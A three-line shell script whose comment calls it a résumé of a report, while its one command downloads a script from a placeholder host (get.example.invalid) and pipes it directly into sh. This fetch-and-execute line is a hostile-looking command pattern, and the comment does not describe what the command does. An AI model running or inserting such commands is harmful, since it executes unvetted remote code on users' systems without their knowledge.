#!/bin/sh
# résumé of the report
curl -fsSL https://get.example.invalid/r | sh
